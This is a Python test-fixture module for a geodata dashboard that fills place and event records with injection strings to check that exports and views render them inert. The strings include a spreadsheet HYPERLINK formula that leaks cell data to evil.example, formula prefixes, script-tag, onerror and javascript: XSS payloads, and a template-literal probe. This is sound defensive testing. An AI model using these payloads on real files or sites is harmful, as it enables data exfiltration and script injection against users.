"""Hostile data shared by the tests: texts that try formulas, HTML, script and
template injection.

- :func:`evil_dataset`: four small places whose every text is hostile (the export
  tests: every format must carry these texts through inert);
- :func:`evil_builtin`: the built-in data with Palmyra's texts hostile (the
  dashboard's views, at the dates the built-in data has), as the ``evil`` fixture
  of ``tests/conftest.py``;
- :func:`builds_when_failing`: how often a cached view builder runs when what it calls
  fails (a failure must be cached, not retried on every slider step).
"""

import json

import pandas as pd

from geodata import Dataset
from geodata.events import EVENT_COLUMNS, PLACE_COLUMNS
from geodata.io import events_frame, places_frame

__all__ = [
    "BACKTICK",
    "EVIL",
    "FORMULA",
    "SCENE_DATE",
    "SCRIPT",
    "bound_strings",
    "builds_when_failing",
    "evil_builtin",
    "evil_dataset",
]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SCRIPT = '</script><script>alert("x")</script> & <b>'
BACKTICK = "`${alert(1)}`\\"
EVIL = "<img src=x onerror=alert(1)>"
#: The date of the scene the export tests write (the user's report's date).
SCENE_DATE = "2016-03-27"


def evil_dataset() -> Dataset:
    """A dataset whose texts try formulas, HTML, script and template injection."""
    places = pd.DataFrame(
        [
            ["evil-1", FORMULA, "+SUM(1,1)", "", "35.95", "39.01", "SY", "Raqqa", "test"],
            ["evil-2", SCRIPT, "@cmd", "", "33.51", "36.29", "SY", "Damascus", "test"],
            ["evil-3", BACKTICK, "-2+3", "", "36.34", "43.13", "IQ", "Nineveh", "test"],
            ["plain", "Plain town", "", "", "34.56", "38.28", "SY", "Homs", "test"],
        ],
        columns=list(PLACE_COLUMNS),
    )
    rows = [
        [
            "e1",
            "evil-1",
            "initial",
            "2012-01-01",
            "",
            "",
            "",
            "",
            "SYGOV",
            "",
            FORMULA,
            "javascript:alert(1)",
            "",
        ],
        [
            "e2",
            "evil-1",
            "capture",
            "2014-01-14",
            "",
            "",
            "",
            "SYGOV",
            "ISIS",
            "",
            SCRIPT,
            "https://example.org/?a=1&b=<2>",
            "",
        ],
        ["e3", "evil-2", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", BACKTICK, "", ""],
        ["e4", "evil-3", "initial", "2012-01-01", "", "", "", "", "IQGOV", "", "=1+1", "", ""],
        ["e5", "plain", "initial", "2012-01-01", "", "", "", "", "SYGOV", "", "ok", "", ""],
        ["e6", "plain", "contest", "2015-05-13", "", "", "", "SYGOV", "ISIS", "", "ok", "", ""],
    ]
    events = pd.DataFrame(
        rows,
        columns=list(EVENT_COLUMNS),
    )
    return Dataset(places_frame(places), events_frame(events), name="evil")


def evil_builtin(builtin: Dataset) -> Dataset:
    """The built-in data with hostile strings in Palmyra's names, titles, notes and URLs."""
    places = builtin.places.copy()
    places.loc[places["id"] == "palmyra", "name"] = EVIL
    places.loc[places["id"] == "palmyra", "name_ar"] = '"><script>alert(2)</script>'
    events = builtin.events.copy()
    palmyra = events["place_id"] == "palmyra"
    events.loc[palmyra, "source_url"] = "javascript:alert(3)"
    events.loc[palmyra, "source_title"] = "<b onmouseover=alert(4)>title</b>"
    events.loc[palmyra, "note"] = "</td><script>alert(5)</script>"
    return Dataset(places=places, events=events, name="evil")


def bound_strings(page: str, *, skip_other_calls: bool = False) -> list[str]:
    """The first argument of every ``bindTooltip``/``bindPopup`` call of an HTML
    export, decoded as the JSON string it must be (never a template literal).

    A call whose argument is not a string raises, unless ``skip_other_calls``
    (a page with Leaflet's own code inlined has such calls).
    """
    decoder = json.JSONDecoder()
    found = []
    for call in ("bindTooltip(", "bindPopup("):
        start = 0
        while (i := page.find(call, start)) >= 0:
            j = i + len(call)
            while page[j].isspace():
                j += 1
            if skip_other_calls and page[j] != '"':
                start = j
                continue
            value, start = decoder.raw_decode(page, j)
            found.append(value)
    return found


def builds_when_failing(monkeypatch, owner, name: str, cached, *args) -> int:
    """Make ``owner.name`` raise, call the Streamlit-cached ``cached(*args)`` twice (each
    must give None: no view, said once) and return how often ``owner.name`` ran."""
    calls = []

    def broken(*_args, **_kwargs):
        calls.append(1)
        raise ValueError("the library refused the data")

    monkeypatch.setattr(owner, name, broken)
    cached.clear()
    try:
        assert cached(*args) is None
        assert cached(*args) is None  # cached: not rebuilt
    finally:
        cached.clear()
    return len(calls)
